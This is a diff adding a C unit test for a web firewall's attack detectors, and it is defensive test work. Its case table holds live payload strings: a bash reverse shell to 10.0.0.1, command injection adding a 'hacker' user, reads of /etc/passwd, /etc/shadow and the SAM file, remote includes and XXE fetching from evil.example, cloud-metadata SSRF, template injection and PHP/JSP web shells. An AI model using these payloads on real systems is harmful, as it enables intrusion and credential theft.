@@ -1,0 +1,214 @@
+/*
+ * test_waf_detect: every row of the detector table on values that are
+ * attacks of its kind and on look-alike values that are not, and the
+ * protocol detector on whole requests.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "detect.h"
+#include "fields.h"
+
+struct dcase {
+	const char *detector;
+	int attack;
+	const char *value;
+};
+
+static const struct dcase cases[] = {
+	{ "cmdi", 1, "127.0.0.1; cat /etc/passwd" },
+	{ "cmdi", 1, "x | id" },
+	{ "cmdi", 1, "a && whoami" },
+	{ "cmdi", 1, "$(reboot)" },
+	{ "cmdi", 1, "`id`" },
+	{ "cmdi", 1, "a;{cat,/etc/passwd}" },
+	{ "cmdi", 1, "a;/?\?\?/c?t /etc/passwd" },
+	{ "cmdi", 1, "x;c'a't$IFS/etc/passwd" },
+	{ "cmdi", 1, "x & net user hacker P@ss /add" },
+	{ "cmdi", 1, "x | type C:\\Windows\\win.ini" },
+	{ "cmdi", 1, "ls -la /" },
+	{ "cmdi", 1, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
+	{ "cmdi", 0, "Tom & Jerry" },
+	{ "cmdi", 0, "dog; cat" },
+	{ "cmdi", 0, "cats; dogs | birds" },
+	{ "cmdi", 0, "data:image/png;base64,iVBORw0KGgo/AAAA" },
+	{ "cmdi", 0, "```bash\n$ git log | head -n 5\n```" },
+	{ "cmdi", 0, "<pre><code>$ npm ci && npm run build</code></pre>" },
+	{ "cmdi", 0, "zh-CN,zh;q=0.9,en;q=0.8" },
+	{ "lfi", 1, "../../../../etc/passwd" },
+	{ "lfi", 1, "....//....//etc/passwd" },
+	{ "lfi", 1, "..\\..\\windows\\win.ini" },
+	{ "lfi", 1, "/etc/shadow" },
+	{ "lfi", 1, "C:/Windows/System32/config/SAM" },
+	{ "lfi", 1, "php://filter/convert.base64-encode/resource=index.php" },
+	{ "lfi", 1, "../../../../../../../../var/www/app.py" },
+	{ "lfi", 0, "../img/logo.png" },
+	{ "lfi", 0, "docs/etc/passwd-policy.md" },
+	{ "lfi", 0, "a long sentence that mentions the environment and .envelope things" },
+	{ "rfi", 1, "http://evil.example/shell.txt?" },
+	{ "rfi", 1, "https://evil.example/x.php" },
+	{ "rfi", 0, "https://example.com/products/42" },
+	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/" },
+	{ "ssrf", 1, "http://127.1/admin" },
+	{ "ssrf", 1, "http://2130706433/" },
+	{ "ssrf", 1, "http://0x7f000001/" },
+	{ "ssrf", 1, "http://good.example@localhost:6379/" },
+	{ "ssrf", 1, "http://[::1]:8080/" },
+	{ "ssrf", 1, "http://[0:0:0:0:0:ffff:127.0.0.1]/" },
+	{ "ssrf", 1, "gopher://127.0.0.1:6379/_INFO" },
+	{ "ssrf", 1, "http://metadata.google.internal/computeMetadata/v1/" },
+	{ "ssrf", 1, "http://100.100.100.200/latest/meta-data/" },
+	{ "ssrf", 0, "https://hooks.slack.com/services/T000/B000/XXX" },
+	{ "ssrf", 0, "https://8.8.8.8/dns-query" },
+	{ "xxe", 1, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>" },
+	{ "xxe", 1, "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>" },
+	{ "xxe", 1, "<!DOCTYPE foo PUBLIC \"-//X//EN\" \"http://evil.example/x.dtd\"><foo/>" },
+	{ "xxe", 1, "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></a>" },
+	{ "xxe", 0, "<?xml version=\"1.0\"?><order><id>5</id></order>" },
+	{ "xxe", 0, "<!DOCTYPE html><html></html>" },
+	{ "ssti", 1, "{{7*7}}" },
+	{ "ssti", 1, "${7*7}" },
+	{ "ssti", 1, "{{''.__class__.__mro__[1].__subclasses__()}}" },
+	{ "ssti", 1, "{{config.items()}}" },
+	{ "ssti", 1, "<%= 7 * 7 %>" },
+	{ "ssti", 1, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>" },
+	{ "ssti", 1, "#set($x='')" },
+	{ "ssti", 0, "Hello {{ user.name }}" },
+	{ "ssti", 0, "{{ .Values.image.tag }}" },
+	{ "ssti", 0, "Total: ${price}" },
+	{ "ssti", 0, "{\"a\": {\"b\": 1}}" },
+	{ "webshell", 1, "<?php system($_GET['c']); ?>" },
+	{ "webshell", 1, "GIF89a<?php @eval($_POST['x']);?>" },
+	{ "webshell", 1, "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>" },
+	{ "webshell", 0, "<?xml version=\"1.0\"?><a/>" },
+	{ "webshell", 0, "<?php echo 'hello'; ?>" },
+	{ "script_filename", 1, "shell.php" },
+	{ "script_filename", 1, "x.php.jpg" },
+	{ "script_filename", 1, "a.PhTmL" },
+	{ "script_filename", 1, "x.asp;.jpg" },
+	{ "script_filename", 1, ".htaccess" },
+	{ "script_filename", 0, "photo.jpg" },
+	{ "script_filename", 0, "report.2024.pdf" },
+	{ "scanner", 1, "sqlmap/1.7.2#stable (https://sqlmap.org)" },
+	{ "scanner", 1, "Mozilla/5.00 (Nikto/2.1.6)" },
+	{ "scanner", 1, "Mozilla/5.0 (compatible; Nmap Scripting Engine)" },
+	{ "scanner", 0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0" },
+	{ "scanner", 0, "python-requests/2.31.0" },
+	{ "sqli", 1, "1' or '1'='1" },
+	{ "sqli", 0, "select your size" },
+	{ "xss", 1, "<img src=x onerror=alert(1)>" },
+	{ "xss", 0, "<b>hi</b>" },
+};
+
+static void
+test_field_detectors(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const struct detector *d = detect_find(cases[i].detector);
+		struct detect_hit hit = { NULL, 0 };
+		int got;
+
+		assert_non_null(d);
+		assert_non_null(d->field_fn);
+		got = d->field_fn(cases[i].value, strlen(cases[i].value), &hit);
+		if (got != cases[i].attack)
+			fail_msg("%s(\"%s\") = %d, want %d", cases[i].detector, cases[i].value, got,
+			    cases[i].attack);
+		if (got) {
+			assert_non_null(hit.reason);
+			assert_true(hit.offset <= strlen(cases[i].value));
+		}
+	}
+}
+
+static void
+test_table(void **state)
+{
+	(void)state;
+	assert_null(detect_find("nope"));
+	for (size_t i = 0; i < detect_count; i++) {
+		assert_true((detect_table[i].field_fn != NULL) != (detect_table[i].request_fn != NULL));
+		assert_ptr_equal(detect_find(detect_table[i].name), &detect_table[i]);
+	}
+}
+
+#define H(n, v) { n, sizeof(n) - 1, v, sizeof(v) - 1 }
+
+static int
+proto(const char *method, const char *path, const char *query, const struct waf_header *h,
+    size_t nh, const char *body, unsigned flags)
+{
+	struct waf_request r = {
+		.method = method, .method_len = strlen(method), .path = path, .path_len = strlen(path),
+		.query = query, .query_len = query ? strlen(query) : 0, .headers = h, .n_headers = nh,
+		.body = (const uint8_t *)body, .body_len = body ? strlen(body) : 0,
+	};
+	struct detect_hit hit;
+
+	return detect_protocol(&r, flags, &hit);
+}
+
+static void
+test_protocol(void **state)
+{
+	const struct waf_header ok[] = { H("Host", "shop.example.com"), H("User-Agent", "x") };
+	const struct waf_header post[] = { H("Host", "a"), H("Content-Length", "3") };
+	const struct waf_header te_cl[] = { H("Host", "a"), H("Content-Length", "3"),
+		H("Transfer-Encoding", "chunked") };
+	const struct waf_header te_bad[] = { H("Host", "a"), H("Transfer-Encoding", "xchunked") };
+	const struct waf_header te_ok[] = { H("Host", "a"), H("Transfer-Encoding", "chunked") };
+	const struct waf_header cl_list[] = { H("Host", "a"), H("Content-Length", "3, 3") };
+	const struct waf_header no_host[] = { H("User-Agent", "x") };
+	const struct waf_header two_hosts[] = { H("Host", "a"), H("Host", "b") };
+	const struct waf_header host_at[] = { H("Host", "a@b") };
+	const struct waf_header ctl[] = { H("Host", "a"), H("X-A", "b\001") };
+	const struct waf_header bad_name[] = { H("Host", "a"), H("X A", "b") };
+	const struct waf_header range[] = { H("Host", "a"), H("Range", "bytes=0-,1-,2-,3-,4-,5-") };
+	const struct waf_header override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "TRACE") };
+	const struct waf_header mp[] = { H("Host", "a"),
+		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
+
+	(void)state;
+	assert_false(proto("GET", "/", NULL, ok, 2, NULL, 0));
+	assert_false(proto("POST", "/", NULL, post, 2, "x=1", 0));
+	assert_false(proto("POST", "/", NULL, te_ok, 2, "hello", 0));
+	assert_false(proto("GET", "/search", "q=a%20b&x=%E4%B8%AD", ok, 2, NULL, 0));
+	assert_true(proto("TRACE", "/", NULL, ok, 2, NULL, 0));
+	assert_true(proto("G ET", "/", NULL, ok, 2, NULL, 0));
+	assert_true(proto("GET", "x", NULL, ok, 2, NULL, 0));
+	assert_true(proto("GET", "/a%00.php", NULL, ok, 2, NULL, 0));
+	assert_true(proto("GET", "/a\\b", NULL, ok, 2, NULL, 0));
+	assert_true(proto("GET", "/s", "q=%zz", ok, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, te_cl, 3, "abc", 0));
+	assert_true(proto("POST", "/", NULL, te_bad, 2, "abc", 0));
+	assert_true(proto("POST", "/", NULL, cl_list, 2, "abc", 0));
+	assert_true(proto("POST", "/", NULL, post, 2, "abcd", 0));	/* length disagrees */
+	assert_true(proto("GET", "/", NULL, te_ok, 2, NULL, 0));
+	assert_true(proto("GET", "/", NULL, no_host, 1, NULL, 0));
+	assert_true(proto("GET", "/", NULL, two_hosts, 2, NULL, 0));
+	assert_true(proto("GET", "/", NULL, host_at, 1, NULL, 0));
+	assert_true(proto("GET", "/", NULL, ctl, 2, NULL, 0));
+	assert_true(proto("GET", "/", NULL, bad_name, 2, NULL, 0));
+	assert_true(proto("GET", "/", NULL, range, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, override, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, mp, 2, NULL, 0));
+	assert_true(proto("POST", "/", NULL, ok, 2, NULL, FIELD_F_BAD_JSON));
+	assert_true(proto("GET", "/", NULL, ok, 2, "body", 0));
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_field_detectors),
+		cmocka_unit_test(test_table),
+		cmocka_unit_test(test_protocol),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
